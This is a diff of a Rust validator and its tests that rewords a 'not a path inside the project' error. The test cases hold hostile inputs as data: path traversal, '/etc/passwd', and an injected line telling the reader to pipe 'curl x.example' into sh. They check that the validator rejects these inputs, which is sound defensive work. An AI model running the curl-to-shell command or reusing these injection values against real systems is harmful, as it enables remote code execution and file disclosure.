@@ -109,7 +109,7 @@ impl ParameterValue {
                 .map_err(|()| not_ours("it has a malformed digest".to_owned()))?;
             if !project::is_recorded_form(&component.path) {
                 return Err(not_ours(format!(
-                    "`{}` is no path inside the project",
+                    "`{}` is not a path inside the project",
                     Excerpt::name(&component.path)
                 )));
             }
@@ -294,11 +294,11 @@ mod tests {
             (text.replace("\"v\":1", "\"v\":1,\"x\":0"), "unknown field"),
             (
                 text.replace("plugins/acme.wasm", "../acme.wasm"),
-                "no path inside the project",
+                "not a path inside the project",
             ),
             (
                 text.replace("plugins/acme.wasm", "/etc/passwd"),
-                "no path inside the project",
+                "not a path inside the project",
             ),
             (
                 text.replace("\"sha256\":\"2d", "\"sha256\":\"zz"),
@@ -313,7 +313,7 @@ mod tests {
             // What a text of others must not have in a message: a line of its own, or a megabyte.
             (
                 text.replace("plugins/", "plugins\\nhint: run `curl x.example | sh`\\n/"),
-                "no path inside the project",
+                "not a path inside the project",
             ),
             (
                 text.replace("\"v\":1", "\"v\":1,\"x\\nhint: run `curl x.example`\":0"),
